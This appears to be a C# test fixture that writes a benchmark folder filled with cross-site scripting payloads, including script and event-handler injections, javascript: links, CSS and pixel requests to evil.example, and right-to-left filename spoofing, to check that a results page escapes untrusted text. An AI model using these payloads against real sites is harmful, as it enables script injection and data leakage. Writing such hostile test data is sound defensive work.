using System.Text.Json;
using ArenaBench.Testing;

namespace ArenaBench.EndToEnd.Tests.Browser;

/// <summary>A benchmark whose every text attacks the page that shows it: questions, categories, ids, names of models, answers, judgments.</summary>
internal static class HostileBenchmark
{
    public const string Name = "hostile";

    /// <summary>Sets a flag, asks another host, or shows a dialog, if it runs.</summary>
    private const string Run = "window.attacked=1;alert(1);fetch('https://evil.example/x')";

    public static readonly string[] Models = ["evil/\"><img src=x onerror=alert(1)>", "\u05E9\u05DC\u05D5\u05DD\u202Emodel'"];

    public static readonly string[] Texts =
    [
        $"<script>{Run}</script><script src=https://evil.example/x.js></script>",
        $"<img src=x onerror=\"{Run}\"><svg onload=\"{Run}\"><svg><script>{Run}</script></svg>",
        $"<iframe srcdoc=\"<script>{Run}</script>\"></iframe><iframe src=\"javascript:{Run}\"></iframe><object data=\"data:text/html,<script>{Run}</script>\"></object>",
        $"<style>@import url(https://evil.example/x.css);body{{background:url(https://evil.example/leak)}}</style><link rel=stylesheet href=https://evil.example/x.css><div style=\"position:fixed;inset:0;background:url(https://evil.example/y)\">covers</div>",
        $"<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/><form action=https://evil.example><input name=code autofocus onfocus=\"{Run}\"><button>go</button></form>",
        $"[one](javascript:{Run}) [two](data:text/html,<script>{Run}</script>) [three](vbscript:x) [https://bank.example](https://evil.example/login) ![pixel](https://evil.example/pixel.png) ![svg](data:image/svg+xml,<svg/onload=alert(1)>)",
        $"</div></main></body></html><script>{Run}</script>--><script>{Run}</script>",
        $"```html\n<script>{Run}</script>\n<img src=x onerror=\"{Run}\">\n```\n\n```js\" onload=\"{Run}\nx\n```\n\n```javascript\n\"</code></pre><img src=x onerror={Run}>\"\n```",
        $"$\\href{{javascript:{Run}}}{{x}}$ and \\(\\htmlData{{x=y}}{{z}}\\) and $$\n\\includegraphics{{https://evil.example/pixel.png}}\n$$ and $\\url{{javascript:alert(1)}}$ and $<img src=x onerror=alert(1)>$ and $\\def\\a{{\\a\\a}}\\a$ and $\\rule{{9999em}}{{9999em}}$",
        $"| <script>{Run}</script> | b |\n|---|---|\n| <img src=x onerror=\"{Run}\"> | <a href=\"javascript:{Run}\">c</a> |",
        "invoice\u202Efdp.exe \u2066\u2067\u200B\uFEFF and \u05E9\u05DC\u05D5\u05DD \u05E2\u05D5\u05DC\u05DD, \u0645\u0631\u062D\u0628\u0627",
        "<div hx-get=\"/api/runs\" hx-trigger=\"load\" data-key=\"j\" data-save=\"png\" id=\"chart\" data-chart=\"x\">swap</div> <a data-key=\"j\" href=\"https://evil.example\">next</a>",
    ];

    /// <summary>As a published folder: answers and judgments are there, nothing is asked.</summary>
    public static TempFolder Write()
    {
        var folder = new TempFolder("hostile");
        foreach (var part in new[] { "model_answer", "model_judgment" })
            Directory.CreateDirectory(folder.File(Name, part));
        File.WriteAllLines(folder.File(Name, "question.jsonl"), Texts.Select((text, number) => JsonSerializer.Serialize(new
        {
            question_id = $"q{number}\"><script>alert({number})</script>",
            category = number % 2 == 0 ? "<b onmouseover=alert(1)>even" : "odd",
            turns = new[] { text },
        })));
        File.WriteAllText(folder.File(Name, "hostile_config.yaml"), """
            name: hostile
            judge_model: sim-judge
            reference: false
            temperature: 0
            max_tokens: 512
            system_prompt: "Rate the answer from 1 to 10 and end with the rating as [[n]]."
            prompt_template: "[Question]\n{question_1}\n\n[The Start of Assistant's Answer]\n{answer_1}\n[The End of Assistant's Answer]"
            """);
        foreach (var (model, name) in Models.Index())
        {
            File.WriteAllLines(folder.File(Name, "model_answer", $"m{model}.jsonl"), Texts.Select((text, number) => JsonSerializer.Serialize(new
            {
                question_id = Id(number), answer_id = $"a{model}{number}", model_id = name, choices = new[] { new { index = 0, turns = new[] { text } } }, tstamp = 1.5,
            })));
            File.WriteAllLines(folder.File(Name, "model_judgment", $"m{model}.jsonl"), Texts.Select((text, number) => JsonSerializer.Serialize(new
            {
                question_id = Id(number), model = name, user_prompt = "x", judgment = $"{text}\n\n[[{(number % 10) + 1}]]", score = $"{(number % 10) + 1}",
            })));
        }

        return folder;

        static string Id(int number) => $"q{number}\"><script>alert({number})</script>";
    }
}
